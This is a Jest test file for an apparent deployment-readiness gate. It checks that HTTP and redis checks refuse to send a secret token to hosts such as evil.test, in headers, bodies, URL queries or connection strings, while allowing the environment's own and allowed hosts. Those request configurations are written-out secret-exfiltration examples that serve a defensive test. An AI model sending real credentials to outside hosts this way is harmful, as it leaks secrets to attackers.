import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from '@jest/globals'
import { gate, Project } from '../../support/program.ts'
import { serve, type TestServer } from '../../support/server.ts'

// Takes long: a process for every place in which the name of a host may stand.

const secret = 'k3Jf9sLq2Vb7Xz1cW8mN'
let server: TestServer
let asked: string[] = []
let project: Project

beforeAll(async () => {
  server = await serve((request, response) => {
    asked.push(`${request.headers.host?.replace(/:.*/, '')}${request.url}`)
    response.end('{}')
  })
})
afterAll(() => server.close())
beforeEach(() => {
  asked = []
  project = new Project()
})
afterEach(() => project.remove())

const port = (): string => new URL(server.url).port

async function run(check: object, environment: object = {}, env: Readonly<Record<string, string>> = {}) {
  project.write(
    '.github/readiness.yml',
    JSON.stringify({
      version: 1,
      secrets: ['TOKEN'],
      environments: { production: { url: `http://shop.example.test:${port()}`, ...environment } },
      sections: [{ title: 'S', items: [{ id: 'a', title: 'A', ...check }] }],
    }),
  )
  const hosts = ['shop.example.test', 'api.shop.example.test', 'evil.test', 'pay.test', 'shop.example.test.evil.test']
  const resolve = hosts.flatMap((host) => ['--resolve', `${host}=127.0.0.1`])
  const result = await gate(project, resolve, { TOKEN: secret, ...env })
  const check0 = result.report.items[0]?.checks[0]
  return {
    status: check0?.status,
    rules: check0?.findings.map(({ rule }) => rule),
    output: result.stdout + result.stderr,
  }
}

const http = (host: string, more: object) => ({ http: { request: `GET http://${host}:${port()}/`, ...more } })
const refused = { status: 'error', rules: ['http/secret-elsewhere'] }

test.each<[what: string, more: object]>([
  ['a bearer token', { bearer: '${{ secrets.TOKEN }}' }],
  ['a header', { headers: { 'x-key': 'prefix ${{ secrets.TOKEN }}' } }],
  ['a password', { basic: { username: 'u', password: '${{ secrets.TOKEN }}' } }],
])('%s goes to no other host', async (_what, more) => {
  for (const host of ['evil.test', 'shop.example.test.evil.test']) {
    expect(await run(http(host, more))).toMatchObject(refused)
  }
  expect(asked).toEqual([])
})

test.each<[what: string, more: object]>([
  ['JSON', { json: { a: ['${{ secrets.TOKEN }}'] } }],
  ['a form', { form: { a: '${{ secrets.TOKEN }}' } }],
  ['text', { text: '${{ secrets.TOKEN }}' }],
  ['a part', { multipart: { a: '${{ secrets.TOKEN }}' } }],
])('nor does a body of %s', async (_what, more) => {
  const post = { http: { request: `POST http://evil.test:${port()}/`, ...more } }
  const { output, ...result } = await run(post)
  expect(result).toMatchObject(refused)
  expect(output).not.toContain(secret)
  expect(asked).toEqual([])
})

test('nor a part of a URL', async () => {
  const url = { http: { request: `GET http://evil.test:${port()}/?q=\${{ secrets.TOKEN }}` } }
  expect(await run(url)).toMatchObject(refused)
  expect(asked).toEqual([])
})

test.each<[what: string, host: string, environment: object]>([
  ['the host of the environment', 'shop.example.test', {}],
  ['one below it', 'api.shop.example.test', {}],
  ['one that is allowed', 'pay.test', { 'allowed-hosts': ['pay.test'] }],
  [
    'one below a name that is allowed',
    'api.shop.example.test',
    { url: 'http://other.test', 'allowed-hosts': ['*.example.test'] },
  ],
  ['this machine', '127.0.0.1', {}],
])('it goes to %s', async (_what, host, environment) => {
  expect(await run(http(host, { bearer: '${{ secrets.TOKEN }}' }), environment)).toMatchObject({ status: 'passed' })
  expect(asked).toEqual([`${host}/`])
})

test('a request without a secret goes anywhere', async () => {
  expect(await run(http('evil.test', { headers: { 'x-key': 'no secret' } }))).toMatchObject({ status: 'passed' })
})

test('a password goes to no other host either, but to the one that a secret itself names', async () => {
  const redis = (url: string) => ({ service: { redis: { url } } })
  const other = await run(redis(`redis://:\${{ secrets.TOKEN }}@evil.test:${port()}/0`))
  expect(other).toMatchObject({ status: 'error', rules: ['service/secret-elsewhere'] })
  const own = await run(redis('${{ secrets.TOKEN }}'), {}, { TOKEN: `redis://:${secret}@pay.test:${port()}/0` })
  expect(own.rules).not.toContain('service/secret-elsewhere')
})
